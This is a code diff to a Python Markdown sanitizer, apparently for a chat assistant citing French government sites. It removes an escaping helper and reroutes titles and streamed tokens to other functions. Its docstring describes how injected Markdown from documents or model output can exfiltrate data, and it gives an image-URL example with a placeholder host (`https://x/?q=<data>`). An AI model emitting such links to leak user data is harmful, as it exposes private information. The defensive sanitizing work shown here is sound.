@@ -4,7 +4,7 @@ A document (or a model that read it) may contain Markdown that the browser would
 agent's browser fetch an address of the attacker's choice (``![](https://x/?q=<data>)``, the classic exfiltration
 channel of assistants), a link sends the agent to a phishing page, a reference definition turns a harmless ``[1]``
 into a link, raw HTML or an autolink does the same. Everything that enters the chat's Markdown from a document or
-the model goes through ``safe_markdown`` (answers, streamed tokens, titles through ``escape_markdown``):
+the model goes through ``safe_markdown`` (answers, titles; streamed tokens through ``safe_token``):
 
 - images are never rendered: their text is kept, « (image non affichée) » says one was there;
 - links are shown as text (label and address), except ``https`` links to an allowed site (service-public.fr,
@@ -27,7 +27,6 @@ from urllib.parse import urlsplit
 DEFAULT_ALLOWED_HOSTS = ("service-public.fr", "legifrance.gouv.fr")
 IMAGE_NOTE = "(image non affichée)"
 
-_MD_PUNCTUATION = re.compile(r"([\\`*_{}\[\]()#+\-.!<>|~:@&])")
 _LINK = re.compile(r"(!?)\[((?:[^\[\]\\]|\\.){0,500})\]\(\s*<?([^()\s<>]*(?:\([^()\s]*\)[^()\s<>]*)*)>?"
                    r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)")
 _AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|file|data|javascript):[^<>\s]*)>", re.IGNORECASE)
@@ -38,15 +37,6 @@ _CITATION = re.compile(r"\\\[(\d{1,3})\\\](?![(\[:]|\\[\[(:])")
 _PLACEHOLDER = "\x00{}\x00"
 _SLOT = re.compile("\x00(\\d+)\x00")
 _JOINER = "\u2060"  # WORD JOINER: invisible, breaks no line
-
-
-def escape_markdown(text: str) -> str:
-    """Every Markdown character of ``text`` escaped: a title or a name shown exactly as written, never as markup
-    (an address in it as inline code, never a link)."""
-    text = " ".join(str(text or "").replace("\x00", "").split())
-    slots: list[str] = []
-    text = _BARE.sub(lambda m: _keep(slots, _as_code(m.group(0))), text)
-    return _expand(slots, _MD_PUNCTUATION.sub(r"\\\1", text))
 
 
 def _allowed(url: str, hosts: Iterable[str]) -> bool:
